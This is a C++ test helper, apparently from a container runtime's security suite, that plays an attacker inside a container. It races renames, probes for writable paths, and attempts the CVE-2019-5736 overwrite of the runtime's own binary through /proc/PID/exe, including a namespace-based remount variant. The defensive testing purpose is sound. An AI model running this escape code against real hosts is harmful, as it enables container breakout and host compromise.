// SPDX-License-Identifier: Apache-2.0
// What an attacker runs in a container, or on a folder that he shares with one. Each line that it prints is something
// that he got or was refused; tests/security say which must be which.
//
//   attack exchange A B         exchanges two names, again and again, until it is killed
//   attack own-binary           tries to write into the program of each runtime process that appears, until killed
//   attack writable FOLDER...   files that are for writing and open so, and folders in which one can be made
#include <dirent.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <linux/mount.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cctype>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <set>
#include <string>
#include <string_view>
#include <utility>

namespace {

// Each line once, at once: it is ended by a signal.
void tell(const std::string& line) {
  static std::set<std::string> told;
  if (told.insert(line).second) (void)!::write(1, (line + "\n").data(), line.size() + 1);
}

std::string link_of(const std::string& path) {
  char target[PATH_MAX] = {};
  return ::readlink(path.c_str(), target, sizeof(target) - 1) < 0 ? "" : target;
}

template <typename Use>
void at_processes(Use use) {
  DIR* proc = ::opendir("/proc");
  while (dirent* entry = proc == nullptr ? nullptr : ::readdir(proc)) {
    int pid = std::atoi(entry->d_name);
    if (pid > 0 && pid != ::getpid()) use(pid, "/proc/" + std::string(entry->d_name));
  }
  if (proc != nullptr) ::closedir(proc);
}

[[noreturn]] void exchange(const char* a, const char* b) {
  for (;;) ::syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

// ---- the runtime's own program (CVE-2019-5736)

enum class Outcome : int { kWrote, kRefused, kBusy, kNoNamespace };

// As long as somebody executes it, it is busy; a quarter of a second is long after that.
Outcome write_into(int program) {
  std::string path = "/proc/self/fd/" + std::to_string(program);
  for (int i = 0; i < 2500; ++i) {
    int file = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
    if (file < 0 && errno == ETXTBSY) {
      ::usleep(100);
      continue;
    }
    bool written = file >= 0 && ::write(file, "owned", 5) == 5;
    if (file >= 0) ::close(file);
    return written ? Outcome::kWrote : Outcome::kRefused;
  }
  return Outcome::kBusy;
}

// With a user and mount namespace of one's own a read-only mount can be made writable, if it is nobody's. It lasts as
// long as the process `runtime`, which is stopped meanwhile.
Outcome unwrap(int program, pid_t runtime) {
  ::kill(runtime, SIGSTOP);
  pid_t pid = ::fork();
  if (pid == 0) {
    if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) ::_exit(int(Outcome::kNoNamespace));
    mount_attr writable{};
    writable.attr_clr = MOUNT_ATTR_RDONLY;
    ::mount_setattr(program, "", AT_EMPTY_PATH, &writable, sizeof(writable));
    int tree = ::open_tree(program, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
    if (tree >= 0) ::mount_setattr(tree, "", AT_EMPTY_PATH, &writable, sizeof(writable));
    ::kill(runtime, SIGCONT);
    Outcome outcome = write_into(program);
    if (outcome != Outcome::kWrote && tree >= 0) outcome = write_into(tree);
    ::_exit(int(outcome));
  }
  int status = 0;
  ::waitpid(pid, &status, 0);
  ::kill(runtime, SIGCONT);
  return Outcome(WEXITSTATUS(status));
}

[[noreturn]] void take_own_binary() {
  std::set<std::pair<dev_t, ino_t>> ours;
  struct stat info{};
  for (const char* each : {"/proc/self/exe", "/bin/busybox"}) {
    if (::stat(each, &info) == 0) ours.insert({info.st_dev, info.st_ino});
  }
  tell("ready");
  for (;;) {
    at_processes([&](int pid, const std::string& folder) {
      int program = ::open((folder + "/exe").c_str(), O_PATH | O_CLOEXEC);
      struct stat found{};
      if (program < 0) return;
      if (::fstat(program, &found) == 0 && !ours.contains({found.st_dev, found.st_ino})) {
        std::string what = link_of("/proc/self/fd/" + std::to_string(program));
        constexpr const char* kNames[] = {"wrote", "refused", "busy", "no namespace"};
        tell("reached " + what);
        // In turn: what was unwrapped could be written plainly, too.
        static bool unwraps = true;
        unwraps = !unwraps;
        if (unwraps) {
          tell(std::string("unwrapped ") + kNames[int(unwrap(program, pid))]);
        } else {
          tell(std::string("plainly ") + kNames[int(write_into(program))]);
        }
      }
      ::close(program);
    });
  }
}

// ---- what is open to writing

int tell_writable(const char* path, const struct stat* info, int kind, struct FTW*) {
  if (std::string_view(path).starts_with("/proc/") && (std::isdigit(path[6]) != 0)) return FTW_SKIP_SUBTREE;
  if (kind == FTW_D || kind == FTW_DP) {
    std::string made = std::string(path) + "/made-by-an-attacker";
    if (::mkdir(made.c_str(), 0755) == 0) {
      tell("folder " + std::string(path));
      ::rmdir(made.c_str());
    }
  } else if (kind == FTW_F && S_ISREG(info->st_mode) && (info->st_mode & 0222) != 0) {
    int file = ::open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC | O_NOFOLLOW);
    if (file >= 0) tell("file " + std::string(path));
    if (file >= 0) ::close(file);
  }
  return FTW_CONTINUE;
}

}  // namespace

int main(int argc, char** argv) {
  std::string verb = argc > 1 ? argv[1] : "";
  if (verb == "exchange" && argc == 4) exchange(argv[2], argv[3]);
  if (verb == "own-binary") take_own_binary();
  if (verb != "writable") return 2;
  for (int i = 2; i < argc; ++i) ::nftw(argv[i], tell_writable, 64, FTW_PHYS | FTW_ACTIONRETVAL);
  return 0;
}
